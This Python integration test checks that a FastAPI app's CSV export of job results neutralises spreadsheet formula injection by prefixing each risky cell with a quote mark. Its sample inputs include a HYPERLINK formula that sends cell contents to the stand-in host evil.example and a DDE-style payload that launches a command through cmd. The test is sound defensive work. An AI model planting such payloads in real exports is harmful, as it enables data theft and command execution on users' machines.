"""A job's results as CSV cannot carry a formula into a spreadsheet (CSV injection).

The job is submitted and downloaded through the app, on each database backend; the
worker's part (scoring) runs in-process with a small trained model.
"""

import csv
import io
import uuid
from pathlib import Path

import pytest
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncConnection

from server.config import Settings
from server.services import job_runner
from server.tests.integration.services.test_jobs_service import promoted_model, scorer
from server.tests.support.apps import build_app, client_for
from server.tests.support.databases import ProvisionedDatabase, TransactionalDatabase

# OWASP's triggers: = + - @ tab carriage-return (and a trigger behind spaces)
IDS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "plain-id",
]


@pytest.fixture
def settings(test_database: ProvisionedDatabase, tmp_path: Path) -> Settings:
    return test_database.settings.model_copy(
        update={"artifact_root": tmp_path / "artifacts", "train_default_rows": 3000}
    )


@pytest.fixture
def app(test_database: ProvisionedDatabase, db_connection: AsyncConnection) -> FastAPI:
    return build_app(test_database.settings, db_connection)


async def test_ids_that_look_like_formulas_are_escaped_in_the_csv(
    app: FastAPI, db_connection: AsyncConnection, settings: Settings
) -> None:
    database = TransactionalDatabase(db_connection)
    await promoted_model(database, settings)
    items = [{"id": identifier, "text": '=HYPERLINK("x") refund'} for identifier in IDS]
    async with client_for(app) as client:
        submitted = await client.post("/api/v1/jobs", json={"items": items})
        assert submitted.status_code == 202, submitted.text
        job_id = uuid.UUID(submitted.json()["id"])
        status = await job_runner.run_job(database, settings, job_id, scorer(settings))
        assert status.value == "succeeded"
        response = await client.get(f"/api/v1/jobs/{job_id}/results", params={"format": "csv"})

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0] == ["position", "id", "label", "confidence", "version"]
    cells = [row[1] for row in rows[1:]]
    assert cells == ["'" + identifier for identifier in IDS[:-1]] + ["plain-id"]
    for identifier in IDS[:-1]:  # in the raw file too: quoted, with the quote mark first
        assert "\"'" + identifier.replace('"', '""') + '"' in response.text
